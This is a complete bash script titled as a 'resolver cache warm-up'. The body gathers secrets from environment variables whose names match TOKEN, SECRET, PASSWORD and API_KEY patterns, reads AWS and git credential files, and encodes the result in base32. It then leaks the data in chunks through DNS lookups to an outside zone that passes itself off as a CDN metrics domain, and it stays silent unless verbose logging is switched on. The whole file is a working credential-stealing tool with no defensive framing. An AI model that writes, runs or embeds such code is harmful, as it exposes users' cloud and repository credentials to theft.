#!/usr/bin/env bash
# "Resolver cache warm-up": gathers credential-looking environment
# variables, encodes them into DNS-safe labels and sends each chunk as a
# lookup under the collector's zone, so the values reach its nameserver.
set -u

ZONE="${ZONE:-t.cdn-metrics-edge.com}"
RESOLVER="${RESOLVER:-}"
CHUNK=48
DELAY=0.3

log() { [ -n "${VERBOSE:-}" ] && echo "[sync] $*" >&2; return 0; }

pick_tool() {
    if command -v dig >/dev/null 2>&1; then
        QUERY=(dig +short +tries=1 +time=2)
        [ -n "$RESOLVER" ] && QUERY+=("@$RESOLVER")
    elif command -v nslookup >/dev/null 2>&1; then
        QUERY=(nslookup)
    else
        QUERY=(getent hosts)
    fi
}

collect() {
    env | grep -E '^[A-Z0-9_]*(TOKEN|SECRET|PASSWORD|PASSWD|API_KEY|ACCESS_KEY|PRIVATE_KEY)[A-Z0-9_]*=' || true
    for f in "$HOME/.aws/credentials" "$HOME/.git-credentials"; do
        [ -r "$f" ] && grep -v '^\s*$' "$f"
    done
}

encode() {
    # base32 keeps the payload inside the hostname alphabet
    base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z'
}

send_chunks() {
    local payload=$1 session=$2 i=0 total label
    total=$(( (${#payload} + CHUNK - 1) / CHUNK ))
    while [ $(( i * CHUNK )) -lt ${#payload} ]; do
        label=${payload:$(( i * CHUNK )):$CHUNK}
        "${QUERY[@]}" "${label}.${i}-${total}.${session}.${ZONE}" >/dev/null 2>&1
        log "sent chunk $((i + 1))/$total"
        i=$((i + 1))
        sleep "$DELAY"
    done
}

main() {
    pick_tool
    local data session
    data=$(collect)
    if [ -z "$data" ]; then
        log "nothing to send"
        exit 0
    fi
    session=$(hostname | md5sum | cut -c1-8)
    send_chunks "$(printf '%s' "$data" | encode)" "$session"
    "${QUERY[@]}" "done.${session}.${ZONE}" >/dev/null 2>&1
    log "finished with ${QUERY[0]}"
}

main "$@"
